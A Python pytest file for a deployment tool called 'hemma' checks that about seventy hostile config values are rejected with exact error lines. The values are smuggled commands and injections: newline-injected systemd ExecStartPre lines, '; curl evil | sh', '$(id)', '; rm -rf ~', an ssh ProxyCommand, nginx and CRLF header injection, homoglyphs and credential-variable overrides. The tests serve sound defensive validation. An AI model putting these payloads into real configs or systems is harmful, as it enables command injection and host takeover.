# ruff: noqa: E501, RUF001 -- a table of exact error lines, and look-alike letters on purpose
"""Hostile config, tried the way an attacker with a stack file would try it.

Each row sets one value that would reach a unit file, a shell, nginx, an htpasswd
file or an env entry if it got through: line ends (LF, CR, NUL), systemd's ``%``
specifiers and quotes, shell metacharacters, nginx directive syntax, look-alike
letters, huge values, type confusion, and values that would publish a private
server or reroute a public host. Each must stop the program with its exact line,
naming the key, before a single resource is declared.
"""

from __future__ import annotations

import copy
from typing import Any

import pytest

from tests.harness import run_expecting_error, site_config

MANAGED_GPU: dict[str, Any] = {
    "llama": {
        "manage": True,
        "port": 8082,
        "executable": "/opt/llama/llama-server",
        "args": ["--model", "/srv/m.gguf"],
    },
    "tabby": {"port": 8083},
}
"""A handed-over llama server, so that its args, environment and paths reach a unit."""

HOSTILE: list[tuple[str, Any, str]] = [
    (
        "gpu.llama.args",
        ["--model", "/srv/m.gguf\nExecStartPre=+/bin/sh -c 'id'"],
        "hemma:gpu.llama.args[1]: must be one word of letters, digits and ._:/=,+@- (systemd reads % $ quotes and spaces itself) (got \"/srv/m.gguf\\nExecStartPre=+/bin/sh -c '... (41 characters))",
    ),
    (
        "gpu.llama.args",
        ["--model", "/srv/m.gguf\rExecStartPre=+/bin/rm"],
        "hemma:gpu.llama.args[1]: must be one word of letters, digits and ._:/=,+@- (systemd reads % $ quotes and spaces itself) (got '/srv/m.gguf\\rExecStartPre=+/bin/rm')",
    ),
    (
        "gpu.llama.args",
        ["--model", "/srv/m\x00.gguf"],
        "hemma:gpu.llama.args[1]: must be one word of letters, digits and ._:/=,+@- (systemd reads % $ quotes and spaces itself) (got '/srv/m\\x00.gguf')",
    ),
    (
        "gpu.llama.args",
        ["--model", "/srv/%h/m.gguf"],
        "hemma:gpu.llama.args[1]: must be one word of letters, digits and ._:/=,+@- (systemd reads % $ quotes and spaces itself) (got '/srv/%h/m.gguf')",
    ),
    (
        "gpu.llama.args",
        ["--model", "'/srv/m.gguf"],
        'hemma:gpu.llama.args[1]: must be one word of letters, digits and ._:/=,+@- (systemd reads % $ quotes and spaces itself) (got "\'/srv/m.gguf")',
    ),
    (
        "gpu.llama.args",
        ["--model", '"/srv/m.gguf'],
        "hemma:gpu.llama.args[1]: must be one word of letters, digits and ._:/=,+@- (systemd reads % $ quotes and spaces itself) (got '\"/srv/m.gguf')",
    ),
    (
        "gpu.llama.args",
        ["--model", "$HOME/m.gguf"],
        "hemma:gpu.llama.args[1]: must be one word of letters, digits and ._:/=,+@- (systemd reads % $ quotes and spaces itself) (got '$HOME/m.gguf')",
    ),
    (
        "gpu.llama.args",
        ["--host", "0.0.0.0"],
        "hemma:gpu.llama: args may not set --host: the server listens where gpu.bindAddress says",
    ),
    (
        "gpu.llama.args",
        ["--port=9999"],
        "hemma:gpu.llama: args may not set --port: the server listens where gpu.bindAddress says",
    ),
    (
        "gpu.llama.args",
        ["--model", "m.gguf; reboot"],
        "hemma:gpu.llama.args[1]: must be one word of letters, digits and ._:/=,+@- (systemd reads % $ quotes and spaces itself) (got 'm.gguf; reboot')",
    ),
    (
        "gpu.llama.executable",
        "/opt/%n/llama-server",
        "hemma:gpu.llama.executable: must be an absolute path of letters, digits and ._@+- (no spaces, no ..) (got '/opt/%n/llama-server')",
    ),
    (
        "gpu.llama.executable",
        "+/opt/llama/llama-server",
        "hemma:gpu.llama.executable: must be an absolute path of letters, digits and ._@+- (no spaces, no ..) (got '+/opt/llama/llama-server')",
    ),
    (
        "gpu.llama.executable",
        "/opt/llama/../../bin/sh",
        "hemma:gpu.llama.executable: must be an absolute path of letters, digits and ._@+- (no spaces, no ..) (got '/opt/llama/../../bin/sh')",
    ),
    (
        "gpu.llama.environment",
        {"HIP_VISIBLE_DEVICES": "0\nExecStartPre=/bin/id"},
        "hemma:gpu.llama.environment.HIP_VISIBLE_DEVICES: must be one word of letters, digits and ._:/=,+@- (systemd reads % $ quotes and spaces itself) (got '0\\nExecStartPre=/bin/id')",
    ),
    (
        "gpu.llama.environment",
        {"LD_PRELOAD=x": "1"},
        "hemma:gpu.llama.environment: the key 'LD_PRELOAD=x' must be a variable name: letters, digits, _",
    ),
    (
        "gpu.llama.workingDirectory",
        "/opt/llama dir",
        "hemma:gpu.llama.workingDirectory: must be an absolute path of letters, digits and ._@+- (no spaces, no ..) (got '/opt/llama dir')",
    ),
    (
        "gpu.bindAddress",
        "::ffff:0.0.0.0",
        "hemma:gpu.bindAddress: must be a loopback address (127.0.0.1 or ::1) (got '::ffff:0.0.0.0')",
    ),
    (
        "gpu.bindAddress",
        "0.0.0.0",
        "hemma:gpu.bindAddress: must be a loopback address (127.0.0.1 or ::1) (got '0.0.0.0')",
    ),
    (
        "gpu.relayAddress",
        "192.168.1.10",
        "hemma:gpu.relayAddress: must be the docker0 bridge address, such as 172.17.0.1 (got '192.168.1.10')",
    ),
    (
        "dockerPath",
        "/snap/bin/docker; curl evil | sh",
        "hemma:dockerPath: must be an absolute path of letters, digits and ._@+- (no spaces, no ..) (got '/snap/bin/docker; curl evil | sh')",
    ),
    (
        "dockerPath",
        "/snap/bin/docker$(id)",
        "hemma:dockerPath: must be an absolute path of letters, digits and ._@+- (no spaces, no ..) (got '/snap/bin/docker$(id)')",
    ),
    (
        "dockerPath",
        "/snap/bin/do`id`cker",
        "hemma:dockerPath: must be an absolute path of letters, digits and ._@+- (no spaces, no ..) (got '/snap/bin/do`id`cker')",
    ),
    (
        "dockerService",
        "snap.docker.dockerd.service\nExecStartPre=/bin/id",
        "hemma:dockerService: must be docker.service or snap.docker.dockerd.service (got 'snap.docker.dockerd.service\\nExecStartP... (48 characters))",
    ),
    (  # systemd: "Failed to add dependency on @snap.docker.dockerd.service ... Invalid argument"
        "dockerService",
        "@snap.docker.dockerd.service",
        "hemma:dockerService: must be docker.service or snap.docker.dockerd.service (got '@snap.docker.dockerd.service')",
    ),
    (  # a template is no unit to start
        "dockerService",
        "docker@.service",
        "hemma:dockerService: must be docker.service or snap.docker.dockerd.service (got 'docker@.service')",
    ),
    (
        "hostnames.grafana",
        "grafana.hemma.hule.education\n",
        "hemma:hostnames.grafana: not a valid hostname (got 'grafana.hemma.hule.education\\n')",
    ),
    (
        "hostnames.grafana",
        "grafana.hemma.hule.education;",
        "hemma:hostnames.grafana: not a valid hostname (got 'grafana.hemma.hule.education;')",
    ),
    (
        "hostnames.grafana",
        "grаfana.hemma.hule.education",
        "hemma:hostnames.grafana: not a valid hostname (got 'grаfana.hemma.hule.education')",
    ),
    (
        "hostnames.grafana",
        "grafana.hemma.hule.education\r\nX-Evil: 1",
        "hemma:hostnames.grafana: not a valid hostname (got 'grafana.hemma.hule.education\\r\\nX-Evil:... (39 characters))",
    ),
    (
        "acmeEmail",
        "admin@hule.education\n",
        "hemma:acmeEmail: not a valid email address (got 'admin@hule.education\\n')",
    ),
    (
        "proxy.basicAuthUser",
        "admin\n",
        "hemma:proxy.basicAuthUser: must be letters, digits, '.', '_' or '-' (got 'admin\\n')",
    ),
    (
        "proxy.basicAuthUser",
        "admin:x",
        "hemma:proxy.basicAuthUser: must be letters, digits, '.', '_' or '-' (got 'admin:x')",
    ),
    (
        "proxy.defaultMaxBodySize",
        "10m; return 200",
        "hemma:proxy.defaultMaxBodySize: must be an nginx size such as 1m or 650m (got '10m; return 200')",
    ),
    (
        "proxy.defaultMaxBodySize",
        "10m\n",
        "hemma:proxy.defaultMaxBodySize: must be an nginx size such as 1m or 650m (got '10m\\n')",
    ),
    (
        "proxy.image",
        "nginxproxy/nginx-proxy:1.6\n",
        "hemma:proxy.image: not a valid image reference (got 'nginxproxy/nginx-proxy:1.6\\n')",
    ),
    (
        "postgres.containerName",
        "shared-postgres\n",
        "hemma:postgres.containerName: not a valid Docker name (got 'shared-postgres\\n')",
    ),
    (
        "extraEnv",
        {"grafana": {"A=B": "1"}},
        "hemma:extraEnv.grafana: the key 'A=B' must be a variable name: letters, digits, _",
    ),
    (
        "extraEnv",
        {"grafana": {"": "1"}},
        "hemma:extraEnv.grafana: the key '' must be a variable name: letters, digits, _",
    ),
    (
        "extraEnv",
        {"grafana": {"LOG_LEVEL": "debug\nVIRTUAL_HOST=evil"}},
        "hemma:extraEnv.grafana.LOG_LEVEL: must not hold a line end, NUL or other control character (got 'debug\\nVIRTUAL_HOST=evil')",
    ),
    (
        "extraEnv",
        {"prometheus": {"VIRTUAL_HOST": "prometheus.hemma.hule.education"}},
        "hemma:extraEnv.prometheus.VIRTUAL_HOST: nginx-proxy and acme-companion read it; routes are the apps' own",
    ),
    (
        "extraEnv",
        {"grafana": {"GF_SECURITY_ADMIN_USER": "root"}},
        "hemma:extraEnv.grafana.GF_SECURITY_ADMIN_USER: the observability app sets it; extraEnv cannot override it",
    ),
    (
        "extraEnv",
        {"grafana": {"LETSENCRYPT_HOST": "x.hule.education"}},
        "hemma:extraEnv.grafana.LETSENCRYPT_HOST: nginx-proxy and acme-companion read it; routes are the apps' own",
    ),
    (
        "extraEnv",
        {"skriptoteket-web": {"HTTPS_METHOD": "noredirect"}},
        "hemma:extraEnv.skriptoteket-web.HTTPS_METHOD: nginx-proxy and acme-companion read it; routes are the apps' own",
    ),
    (
        "extraEnv",
        {"skriptoteket-web": {"HSTS": "noredirect"}},
        "hemma:extraEnv.skriptoteket-web.HSTS: nginx-proxy and acme-companion read it; routes are the apps' own",
    ),
    (
        "extraEnv",
        {"skriptoteket-web": {"CERT_NAME": "noredirect"}},
        "hemma:extraEnv.skriptoteket-web.CERT_NAME: nginx-proxy and acme-companion read it; routes are the apps' own",
    ),
    (
        "extraEnv",
        {"skriptoteket-web": {"NETWORK_ACCESS": "noredirect"}},
        "hemma:extraEnv.skriptoteket-web.NETWORK_ACCESS: nginx-proxy and acme-companion read it; routes are the apps' own",
    ),
    (
        "extraEnv",
        {"skriptoteket-web": {"SSL_POLICY": "noredirect"}},
        "hemma:extraEnv.skriptoteket-web.SSL_POLICY: nginx-proxy and acme-companion read it; routes are the apps' own",
    ),
    (
        "extraEnv",
        {"skriptoteket-web": {"ACME_CA_URI": "noredirect"}},
        "hemma:extraEnv.skriptoteket-web.ACME_CA_URI: nginx-proxy and acme-companion read it; routes are the apps' own",
    ),
    (
        "extraEnv",
        {"skriptoteket-web": {"DATABASE_URL_FILE": "/run/evil"}},
        "hemma:extraEnv.skriptoteket-web.DATABASE_URL_FILE: the skriptoteket app sets DATABASE_URL, which this would override; extraEnv cannot override it",
    ),
    (
        "backups.keepDaily",
        True,
        "hemma:backups.keepDaily: must be a number, not true or false (got True)",
    ),
    (
        "backups.schedule",
        "daily\nExecStartPre=/bin/id",
        "hemma:backups.schedule: not a systemd OnCalendar expression: words of printable ASCII, one space apart (got 'daily\\nExecStartPre=/bin/id')",
    ),
    (
        "backups.schedule",
        "*-*-*\t03:15:00",
        "hemma:backups.schedule: not a systemd OnCalendar expression: words of printable ASCII, one space apart (got '*-*-*\\t03:15:00')",
    ),
    (
        "backups.schedule",
        "daily%n",
        "hemma:backups.schedule: not a systemd OnCalendar expression: bad weekday 'daily%n' (got 'daily%n')",
    ),
    (
        "backups.dumpsDirectory",
        "/var/backups/%i",
        "hemma:backups.dumpsDirectory: must be an absolute path of letters, digits and ._@+- (no spaces, no ..) (got '/var/backups/%i')",
    ),
    ("sshPort", True, "hemma:sshPort: must be an integer (got 'true')"),
    ("classHub", {"enabled": "yes"}, "hemma:classHub.enabled: must be true or false (got 'yes')"),
    (
        "huleedu.smtpUsername",
        "noreply@hule.education\nBCC: x",
        "hemma:huleedu.smtpUsername: must not hold a line end, NUL or other control character (got 'noreply@hule.education\\nBCC: x')",
    ),
    (
        "appSources",
        {"skriptoteket": "../skripto teket"},
        "hemma:appSources.skriptoteket: must be a path of letters, digits and ._@+/- (relative or absolute) (got '../skripto teket')",
    ),
    (
        "appSources",
        {"skriptoteket": "../skriptoteket;rm -rf ~"},
        "hemma:appSources.skriptoteket: must be a path of letters, digits and ._@+/- (relative or absolute) (got '../skriptoteket;rm -rf ~')",
    ),
    (
        "dockerHost",
        "ssh://hemma -oProxyCommand=id",
        "hemma:dockerHost: must be a Docker host URL: ssh://HOST, tcp://HOST:PORT or unix:///PATH (got 'ssh://hemma -oProxyCommand=id')",
    ),
    (
        "import",
        {"volume/x\n": "x"},
        "hemma:import: the key 'volume/x\\n' must be KIND/NAME, e.g. volume/x",
    ),
    (
        "logOpts",
        {"max-size": "10m\nmax-file=1"},
        "hemma:logOpts.max-size: not a log option value (got '10m\\nmax-file=1')",
    ),
    (
        "proxy.trustedNetwork",
        "0.0.0.0/0",
        "hemma:proxy.trustedNetwork: must be a private network, written as its address/prefix (got '0.0.0.0/0')",
    ),
    (
        "huleedu.offloadGroups",
        ["render"],
        "hemma:huleedu.offloadGroups[0]: must be a group id (got 'render')",
    ),
    (
        "hostnames.grafana",
        "gggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggg.hule.education",
        "hemma:hostnames.grafana: not a valid hostname (got 'ggggggggggggggggggggggggggggggggggggggg... (315 characters))",
    ),
    (
        "huleedu.smtpUsername",
        "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "hemma:huleedu.smtpUsername: must be at most 4096 characters (got 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx... (5000 characters))",
    ),
    (
        "smartLogs.directory",
        "/",
        "hemma:smartLogs.directory: must be a directory of its own under /root, /srv, /mnt, /media, /var/backups, /var/lib/hemma or /var/snap/docker/common (not Docker's data), not hidden (got '/')",
    ),
    (
        "smartLogs.directory",
        "/etc/systemd",
        "hemma:smartLogs.directory: must be a directory of its own under /root, /srv, /mnt, /media, /var/backups, /var/lib/hemma or /var/snap/docker/common (not Docker's data), not hidden (got '/etc/systemd')",
    ),
    (
        "extraEnv.grafana",
        {"GF_SECURITY_ADMIN_PASSWORD__FILE": "/tmp/pw"},
        "hemma:extraEnv.grafana.GF_SECURITY_ADMIN_PASSWORD__FILE: the observability app sets GF_SECURITY_ADMIN_PASSWORD, which this would override; extraEnv cannot override it",
    ),
    (
        "backups",
        '{"keepDaily": ' + "1" * 5000 + "}",
        "hemma:backups: holds a number too long to read",
    ),
    ("backups", "null", "hemma:backups: must be an object"),
    (
        "backups.schedule",
        "x" * 3000,
        "hemma:backups.schedule: not a systemd OnCalendar expression: bad weekday '"
        + "x" * 165
        + "…",
    ),
    (
        "huleedu.smtpUsername",
        "no reply@hule.education",
        "hemma:huleedu.smtpUsername: must not hold a space (got 'no reply@hule.education')",
    ),
    (
        "appSources.classhub\nhemma:all fine",
        "/srv/classhub",
        "hemma:appSources: the key 'classhub\\nhemma:all fine' not a valid Docker name",
    ),
    (
        "appSources.classhub\x1b]0;owned\x07",
        "/srv/classhub",
        "hemma:appSources: the key 'classhub\\x1b]0;owned\\x07' not a valid Docker name",
    ),
]


def with_value(key: str, value: Any) -> dict[str, Any]:
    config = copy.deepcopy(site_config())
    if key.startswith("gpu."):
        config["gpu"] = {**config["gpu"], **copy.deepcopy(MANAGED_GPU)}
    *parents, last = key.split(".")
    target = config
    for part in parents:
        target = target.setdefault(part, {})
    target[last] = value
    return config


@pytest.mark.parametrize(
    ("key", "value", "expected"),
    [pytest.param(k, v, e, id=f"{k}={v!r:.40}") for k, v, e in HOSTILE],
)
def test_a_hostile_value_stops_with_its_line_and_declares_nothing(
    key: str, value: Any, expected: str
) -> None:
    message, program = run_expecting_error(with_value(key, value))
    assert message == expected
    assert program.declared == []
    assert "\n" not in message and "\r" not in message and "\x00" not in message


def test_the_table_has_forty_distinct_hostile_values() -> None:
    assert len(HOSTILE) >= 40
    assert len({repr((k, v)) for k, v, _ in HOSTILE}) == len(HOSTILE)
